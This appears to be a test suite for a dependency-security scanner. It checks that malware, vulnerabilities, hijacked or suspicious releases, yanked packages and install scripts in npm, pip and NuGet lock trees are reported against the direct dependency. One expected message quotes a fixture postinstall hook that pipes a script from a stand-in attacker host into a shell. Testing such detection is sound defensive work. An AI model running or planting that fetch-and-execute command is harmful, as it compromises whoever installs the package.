/**
 * Registry facts for the whole locked tree: one OSV querybatch per 1,000 locked packages, a package
 * document per locked name, and each finding below a direct dependency reported on its name.
 */
import { strict as assert } from 'node:assert';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getAnalysisServices } from '../../../server/src/analysis/services';
import { scanWithRegistries } from '../../../server/src/cli/registryScan';
import type { Finding } from '../../../server/src/model/model';
import { FixtureServer } from '../../helpers/fixtureServer';
import { readLockTree } from '../../../server/src/manifests/lockfiles/lockTree';
import { readTextOrUndefined, registriesFor, scopeFor, settingsFor } from '../../helpers/registryScope';

type LockEntry = { version: string; dependencies?: Record<string, string>; hasInstallScript?: boolean };

/** A fresh folder holding these files; returns the path of the first. */
function files(contents: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'mg-tree-files-'));
  for (const [name, text] of Object.entries(contents)) writeFileSync(join(dir, name), text);
  return join(dir, Object.keys(contents)[0]);
}

/** A package.json with its npm v3 lockfile, in a fresh folder; returns the manifest's path. */
function project(direct: Record<string, string>, locked: Record<string, LockEntry>): string {
  const dir = mkdtempSync(join(tmpdir(), 'mg-tree-osv-'));
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: direct }, null, 2));
  const packages: Record<string, unknown> = { '': { name: 'app', version: '1.0.0', dependencies: direct } };
  for (const [name, entry] of Object.entries(locked)) {
    packages[`node_modules/${name}`] = { ...entry, resolved: `https://registry.npmjs.org/${name}/-/${name}-${entry.version}.tgz`, integrity: 'sha512-AAAA' };
  }
  writeFileSync(join(dir, 'package-lock.json'), JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2));
  return join(dir, 'package.json');
}

describe('advisories for the locked tree', function () {
  this.timeout(20_000);
  let server: FixtureServer;
  const batches = () => server.requests.filter((r) => r.method === 'POST' && r.url.endsWith('/osv/v1/querybatch'));
  const scan = async (path: string, settings: Record<string, unknown> = {}): Promise<Finding[]> => {
    const result = await scanWithRegistries([path], settingsFor(server, settings), { error: (m) => assert.fail(m) }, mkdtempSync(join(tmpdir(), 'mg-tree-cache-')), getAnalysisServices());
    return result.files.flatMap((f) => f.analysis.findings);
  };
  before(async () => (server = await FixtureServer.start()));
  afterEach(() => server.reset());
  after(async () => server.close());

  it('reports malware and vulnerabilities below a direct dependency on its name, with the chain', async () => {
    const path = project(
      { 'event-stream': '3.3.6' },
      {
        'event-stream': { version: '3.3.6', dependencies: { 'flatmap-stream': '0.1.1', 'stream-combiner': '0.2.2' } },
        'flatmap-stream': { version: '0.1.1' },
        'stream-combiner': { version: '0.2.2', dependencies: { 'ps-tree': '1.1.0' } },
        'ps-tree': { version: '1.1.0' },
      },
    );
    const findings = await scan(path);
    const evil = findings.find((f) => f.rule === 'malicious' && f.package === 'flatmap-stream');
    assert.ok(evil, JSON.stringify(findings.map((f) => [f.rule, f.package])));
    assert.equal(evil.severity, 'error');
    assert.deepEqual(evil.via, ['event-stream', 'flatmap-stream']);
    assert.equal(evil.dependency?.name, 'event-stream');
    assert.deepEqual(evil.span, evil.dependency?.nameSpan);
    assert.match(evil.message, /^`flatmap-stream@0\.1\.1`, a dependency of `event-stream`, is known malware \(MAL-2024-1234\): Malicious code in flatmap-stream/);

    const vuln = findings.find((f) => f.rule === 'vulnerable' && f.package === 'ps-tree');
    assert.ok(vuln);
    assert.equal(vuln.severity, 'error'); // HIGH
    assert.deepEqual(vuln.via, ['event-stream', 'stream-combiner', 'ps-tree']);
    assert.match(vuln.message, /^`ps-tree@1\.1\.0`, 2 levels below `event-stream` \(event-stream → stream-combiner → ps-tree\), has 1 known vulnerability: GHSA-w5p7-h5w8-2hfq \(high, fixed in 1\.2\.0\)/);
    // The direct dependency's own version is judged once, by the direct rule.
    assert.equal(findings.filter((f) => f.rule === 'malicious' && f.package === 'event-stream').length, 1);
    assert.equal(findings.some((f) => f.package === 'stream-combiner' && (f.rule === 'malicious' || f.rule === 'vulnerable')), false);

    assert.equal(batches().length, 1, 'the whole tree in one querybatch');
    const asked = (JSON.parse(batches()[0].body) as { queries: Array<{ package: { name: string } }> }).queries.map((q) => q.package.name).sort();
    assert.deepEqual(asked, ['event-stream', 'flatmap-stream', 'ps-tree', 'stream-combiner']);
  });

  it('reports a suspicious locked release on the direct dependency, with via, from documents the tree already needs', async () => {
    const path = project(
      { 'stream-tools': '1.0.0' },
      {
        'stream-tools': { version: '1.0.0', dependencies: { 'event-stream': '3.3.6' } },
        'event-stream': { version: '3.3.6', dependencies: { 'flatmap-stream': '0.1.1' } },
        'flatmap-stream': { version: '0.1.1' },
      },
    );
    // A window reaching back to 2018 fetches the full documents, whose publish times tell flatmap-stream's age.
    const findings = await scan(path, { minimumReleaseAgeDays: 3650 });
    const found = findings.filter((f) => f.rule === 'suspicious-release');
    assert.equal(found.length, 1, JSON.stringify(found.map((f) => f.message)));
    assert.equal(found[0].dependency?.name, 'stream-tools');
    assert.deepEqual(found[0].via, ['stream-tools', 'event-stream']);
    assert.equal(found[0].severity, 'error');
    assert.match(found[0].message, /^`event-stream@3\.3\.6`, a dependency of `stream-tools`, adds the dependency flatmap-stream in a patch or minor release after 3\.3\.5 \(\d{4}-\d\d-\d\d\); flatmap-stream \(itself first published 1 day earlier\)\. Hijacked releases look like this/);
    const gets = server.requests.filter((r) => r.method === 'GET' && /\/npm\/[^/]+$/.test(r.url)).map((r) => r.url.replace(/^.*\/npm\//, '')).sort();
    assert.deepEqual(gets, ['event-stream', 'event-stream', 'flatmap-stream', 'flatmap-stream', 'stream-tools'], 'no request beyond the locked packages\' own documents (abbreviated, then full)');
  });

  it('still reports it from abbreviated documents (untouched for years), without the publish times it cannot know', async () => {
    const path = project(
      { 'stream-tools': '1.0.0' },
      {
        'stream-tools': { version: '1.0.0', dependencies: { 'event-stream': '3.3.6' } },
        'event-stream': { version: '3.3.6', dependencies: { 'flatmap-stream': '0.1.1' } },
        'flatmap-stream': { version: '0.1.1' },
      },
    );
    const found = (await scan(path)).filter((f) => f.rule === 'suspicious-release');
    assert.equal(found.length, 1, JSON.stringify(found.map((f) => f.message)));
    assert.match(found[0].message, /^`event-stream@3\.3\.6`, a dependency of `stream-tools`, adds the dependency flatmap-stream in a patch or minor release after 3\.3\.5\. Hijacked releases look like this/);
    assert.doesNotMatch(found[0].message, /first published/);
    const locked = server.requests.filter((r) => /\/npm\/(event|flatmap)-stream$/.test(r.url));
    assert.deepEqual(locked.map((r) => String(r.headers.accept).includes('install-v1')), [true, true], 'one abbreviated request each');
  });

  it('reports deprecated, fresh and re-published locked packages from their package documents, fetched once each', async () => {
    const path = project(
      { 'event-stream': '3.3.6' },
      {
        'event-stream': { version: '3.3.6', dependencies: { 'hijacked-lib': '1.2.0', 'stream-combiner': '0.2.2' } },
        'hijacked-lib': { version: '1.2.0', dependencies: { 'old-lib': '1.0.0' } },
        'stream-combiner': { version: '0.2.2', dependencies: { 'old-lib': '1.0.0' } },
        'old-lib': { version: '1.0.0' },
      },
    );
    const findings = await scan(path);
    const old = findings.filter((f) => f.rule === 'deprecated' && f.package === 'old-lib');
    assert.equal(old.length, 1, 'one finding per direct dependency, on the shortest chain');
    assert.equal(old[0].dependency?.name, 'event-stream');
    assert.match(old[0].message, /^`old-lib@1\.0\.0`, 2 levels below `event-stream` \(event-stream → (hijacked-lib|stream-combiner) → old-lib\), is deprecated: "old-lib is no longer maintained, use new-lib"\.$/);
    const fresh = findings.find((f) => f.rule === 'new-release' && f.package === 'hijacked-lib');
    assert.match(fresh?.message ?? '', /^`hijacked-lib@1\.2\.0`, a dependency of `event-stream`, was published .* within manifestGuard\.minimumReleaseAgeDays/);
    assert.deepEqual(fresh?.via, ['event-stream', 'hijacked-lib']);
    const publisher = findings.find((f) => f.rule === 'suspicious-release' && f.package === 'hijacked-lib');
    assert.match(publisher?.message ?? '', /published by "mallory", who published none of the 2 earlier versions/);
    assert.deepEqual(publisher?.via, ['event-stream', 'hijacked-lib']);
    // flatmap-stream: the dependency event-stream 3.3.6 adds, looked up to tell how old it is.
    const gets = server.requests.filter((r) => r.method === 'GET' && /\/npm\/[^/]+$/.test(r.url)).map((r) => r.url.replace(/^.*\/npm\//, '')).sort();
    // hijacked-lib and old-lib changed yesterday: abbreviated, then full; stream-combiner (unknown here) abbreviated only.
    assert.deepEqual(gets, ['event-stream', 'flatmap-stream', 'hijacked-lib', 'hijacked-lib', 'old-lib', 'old-lib', 'stream-combiner']);
  });

  it('reports a yanked release and a release without wheels locked by pip-compile on the requirement that brings them in', async () => {
    const path = files({
      'requirements.in': 'flask\n',
      'requirements.txt': ['flask==3.0.3', '    # via -r requirements.in', 'requests==2.32.0', '    # via flask', 'sdist-only==1.0.0', '    # via requests', ''].join('\n'),
    });
    const findings = await scan(path);
    const yanked = findings.find((f) => f.rule === 'yanked' && f.package === 'requests');
    assert.ok(yanked, JSON.stringify(findings.map((f) => [f.rule, f.package])));
    assert.equal(yanked.dependency?.name, 'flask');
    assert.deepEqual(yanked.via, ['flask', 'requests']);
    assert.match(yanked.message, /^`requests@2\.32\.0`, a dependency of `flask`, was yanked from 127\.0\.0\.1:\d+: "Broken on Python 3\.8"\. pip installs a yanked release only when pinned to it exactly; choose another version\.$/);
    const built = findings.find((f) => f.rule === 'install-script' && f.package === 'sdist-only');
    assert.deepEqual(built?.via, ['flask', 'requests', 'sdist-only']);
    assert.match(built?.message ?? '', /2 levels below `flask` .*has no wheel, so pip builds it from source/);
  });

  it('reports the install script of a locked npm package from the registry when the lockfile does not record it, once', async () => {
    const entry = (name: string, version: string) => ({ version, resolved: `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`, integrity: 'sha512-AAAA' });
    // lockfileVersion 1: no `hasInstallScript`, so only the registry can tell.
    const v1 = files({
      'package.json': JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'event-stream': '3.3.6' } }),
      'package-lock.json': JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 1, requires: true, dependencies: { 'event-stream': { ...entry('event-stream', '3.3.6'), requires: { 'setup-hook': '2.1.0' } }, 'setup-hook': entry('setup-hook', '2.1.0') } }),
    });
    const findings = (await scan(v1)).filter((f) => f.rule === 'install-script' && f.package === 'setup-hook');
    assert.equal(findings.length, 1, JSON.stringify(findings));
    assert.equal(findings[0].dependency?.name, 'event-stream');
    assert.deepEqual(findings[0].via, ['event-stream', 'setup-hook']);
    assert.equal(findings[0].severity, 'error');
    assert.match(findings[0].message, /^`setup-hook@2\.1\.0`, a dependency of `event-stream`, runs "postinstall" when installed: `curl -s https:\/\/evil\.example\/x\.sh \| sh` — it downloads a script and pipes it to a shell\.$/);

    // A v3 lockfile records it: the offline rule reports it, the registry's word is not repeated.
    const v3 = project({ 'event-stream': '3.3.6' }, { 'event-stream': { version: '3.3.6', dependencies: { 'setup-hook': '2.1.0' } }, 'setup-hook': { version: '2.1.0', hasInstallScript: true } });
    const recorded = (await scan(v3)).filter((f) => f.rule === 'install-script' && f.package === 'setup-hook');
    assert.equal(recorded.length, 1);
    assert.match(recorded[0].message, /runs an install script when installed\.$/);
  });

  it('reports an unlisted version and MSBuild files of packages locked in packages.lock.json', async () => {
    const transitive = (version: string) => ({ type: 'Transitive', resolved: version, contentHash: 'AAAA' });
    const path = files({
      'app.csproj': '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup><ItemGroup><PackageReference Include="Serilog" Version="3.1.1" /></ItemGroup></Project>',
      'packages.lock.json': JSON.stringify({
        version: 1,
        dependencies: { 'net8.0': { Serilog: { type: 'Direct', requested: '[3.1.1, )', resolved: '3.1.1', contentHash: 'AAAA', dependencies: { 'Acme.BuildTools': '1.2.0', 'Old.Package': '1.0.1' } }, 'Acme.BuildTools': transitive('1.2.0'), 'Old.Package': transitive('1.0.1') } },
      }),
    });
    const findings = await scan(path);
    const unlisted = findings.find((f) => f.rule === 'yanked' && f.package === 'Old.Package');
    assert.ok(unlisted, JSON.stringify(findings.map((f) => [f.rule, f.package])));
    assert.deepEqual(unlisted.via, ['Serilog', 'Old.Package']);
    assert.match(unlisted.message, /^`Old\.Package@1\.0\.1`, a dependency of `Serilog`, is unlisted on /);
    const build = findings.find((f) => f.rule === 'install-script' && f.package === 'Acme.BuildTools');
    assert.equal(build?.dependency?.name, 'Serilog');
    assert.match(build?.message ?? '', /ships MSBuild files imported into every build of this project/);
  });

  it('asks about a tree of N packages in ceil(N / 1000) requests', async () => {
    const children: Record<string, string> = {};
    const locked: Record<string, LockEntry> = {};
    for (let i = 0; i < 1500; i++) {
      children[`leaf-${i}`] = '1.0.0';
      locked[`leaf-${i}`] = { version: '1.0.0' };
    }
    locked['event-stream'] = { version: '3.3.6', dependencies: children };
    // The service directly, with memory caches only: the CLI's disk cache would write a file per
    // locked name (every package document is fetched too), which is slow and beside the point.
    const path = project({ 'event-stream': '3.3.6' }, locked);
    const text = readFileSync(path, 'utf8');
    const registries = registriesFor({ maxConcurrentRequests: 64 });
    const tree = readLockTree(path, 'package.json', readTextOrUndefined, { manifestText: text });
    assert.equal(tree?.graph.packages.size, 1501);
    await registries.service.enrich({ ...scopeFor(registries, 'package.json', text, settingsFor(server), { path }), tree }, { offline: false });
    const sizes = batches().map((r) => (JSON.parse(r.body) as { queries: unknown[] }).queries.length);
    assert.deepEqual(sizes.sort((a, b) => b - a), [1000, 501]); // 1,500 leaves and event-stream
  });
});
